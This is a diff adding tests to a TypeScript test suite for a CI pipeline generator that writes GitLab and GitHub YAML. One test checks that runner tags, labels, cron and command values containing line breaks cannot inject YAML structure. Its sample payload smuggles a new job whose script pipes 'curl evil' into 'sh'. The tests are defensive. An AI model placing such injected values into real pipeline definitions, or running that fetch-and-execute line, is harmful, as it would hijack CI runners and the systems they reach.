@@ -76,6 +76,34 @@ describe('pipelineDefinition', () => {
     expect((doc as unknown as { permissions: Record<string, string> }).permissions).toEqual({ contents: 'read', checks: 'write' });
   });
 
+  it('keeps flag and path values that hold line breaks inside their comment line: never YAML structure', () => {
+    const window = 'Sat\n01:00-05:00 UTC';
+    const injected = 'x"\nevil:\n  stage: plan\n  script: [curl evil | sh]\n#';
+    for (const ci of ['gitlab', 'github'] as const) {
+      const text = pipelineDefinition({
+        ...input(ci), windowText: window, windows: parseWindows(window), runnerTag: `kspray${injected}`, runnerLabels: ['kspray', `dc1\r\u2028${injected}`],
+        cron: ['0 1 * *\u00856'], command: `kspray pipeline -c inventories/k1/cluster.yaml\n${injected}`,
+      });
+      const clean = pipelineDefinition(input(ci));
+      expect(Object.keys(parse(text) as object), ci).toEqual(Object.keys(parse(clean) as object));
+      // As many comment lines as without the line breaks, none holding a break YAML 1.1 knows (\r, NEL, LS, PS).
+      const comments = (t: string) => t.split('\n').slice(0, t.split('\n').findIndex((line) => !line.startsWith('#')));
+      expect(comments(text).length, ci).toBe(comments(clean).length);
+      for (const line of comments(text)) expect(line, ci).not.toMatch(/[\r\u0085\u2028\u2029]/);
+      expect(text, ci).toContain('window "Sat 01:00-05:00 UTC"');
+    }
+    // The values themselves reach the YAML exactly, as quoted scalars.
+    const lab = parse(pipelineDefinition({ ...input('gitlab'), windowText: window, windows: parseWindows(window), runnerTag: `kspray${injected}` })) as { default: { tags: string[] }; variables: Record<string, string> };
+    expect(lab.default.tags).toEqual([`kspray${injected}`]);
+    expect(lab.variables.KSPRAY_WINDOW).toBe(window);
+  });
+
+  it('names the Lease and the Secret in the cluster as kspray names them (a _ in the cluster name is not a Kubernetes name)', () => {
+    expect(pipelineDefinition(input('gitlab'))).toContain('# kspray-k1 and the Secret kspray-k1-journal), not in a CI cache.');
+    const text = pipelineDefinition({ ...input('github'), cluster: 'k_1' });
+    expect(text).toMatch(/# kspray-k-1-[0-9a-f]{8} and the Secret kspray-k-1-[0-9a-f]{8}-journal\), not in a CI cache\./);
+  });
+
   it('names where the file goes', () => {
     expect(pipelinePath('gitlab', 'k1')).toBe('.gitlab-ci.yml');
     expect(pipelinePath('github', 'k1')).toBe('.github/workflows/kspray-k1.yml');
